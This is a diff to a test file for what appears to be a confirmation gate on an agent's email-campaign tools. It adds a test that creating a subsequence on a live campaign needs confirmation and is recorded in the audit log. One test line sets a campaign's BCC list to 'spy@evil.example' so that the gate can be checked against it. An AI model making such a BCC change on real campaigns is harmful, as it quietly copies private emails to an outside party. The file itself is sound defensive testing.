@@ -91,6 +91,36 @@ def test_adding_leads_to_an_active_campaign_asks_and_a_paused_one_does_not(trans
     ]
 
 
+def new_subsequence(campaign: str) -> dict[str, Any]:
+    return {"parent_campaign": campaign, "name": "Interested: case study", "conditions": {"crm_status": [1]}}
+
+
+@pytest.mark.parametrize("transport", TRANSPORTS)
+def test_a_subsequence_on_an_active_campaign_asks_and_on_a_paused_one_does_not(
+    transport: str, sandbox, tmp_path
+) -> None:
+    """A new subsequence emails the campaign's matching leads at once when the campaign is live."""
+
+    async def run() -> tuple[dict, list, bool, list]:
+        async with attack_server(transport, sandbox, tmp_path, "--confirm", "token") as attack:
+            campaigns = seeded_campaigns(body(await attack.call("list_campaigns", {"limit": 10})))
+            sandbox.admin.delete("/_sandbox/requests")
+            asked = body(await attack.call("create_campaign_subsequence", new_subsequence(campaigns[1])))
+            writes_after_ask = attack.upstream(writes_only=True)
+            paused = await attack.call("create_campaign_subsequence", new_subsequence(campaigns[2]))
+            return asked, writes_after_ask, paused.is_error, attack.audit()
+
+    asked, writes_after_ask, paused_failed, audit = anyio.run(run)
+    assert asked["status"] == "confirmation_required"
+    assert "start getting these emails" in asked["summary"]
+    assert writes_after_ask == []
+    assert not paused_failed
+    assert [(line["tool"], line["decision"]) for line in audit] == [
+        ("create_campaign_subsequence", "confirmation_required"),
+        ("create_campaign_subsequence", "sent"),
+    ]
+
+
 # Well-formed ids that no workspace has: they pass the local id check and leave the target's state unknown.
 UNKNOWN_CAMPAIGN = "0190c0de-0000-7000-8000-00000000ca01"
 UNKNOWN_SUBSEQUENCE = "0190c0de-0000-7000-8000-00000000ab01"
@@ -112,14 +142,15 @@ def test_live_target_that_cannot_be_checked_is_gated(transport: str, sandbox, tm
                 ("move_lead_to_subsequence", {"subsequence_id": subsequence, "id": lead}),
                 ("update_campaign", {"id": campaign, "bcc_list": ["spy@evil.example"]}),
                 ("update_campaign_subsequence", {"id": subsequence, "name": "renamed"}),
+                ("create_campaign_subsequence", new_subsequence(campaign)),
             ):
                 statuses.append(body(await attack.call(name, arguments))["status"])
             return statuses, attack.upstream(), attack.audit()
 
     statuses, upstream, audit = anyio.run(run)
-    assert statuses == ["confirmation_required"] * 5
+    assert statuses == ["confirmation_required"] * 6
     assert upstream == []  # not even the lookup: get_campaign is hidden from this agent
-    assert [line["decision"] for line in audit] == ["confirmation_required"] * 5
+    assert [line["decision"] for line in audit] == ["confirmation_required"] * 6
 
 
 @pytest.mark.parametrize("transport", TRANSPORTS)
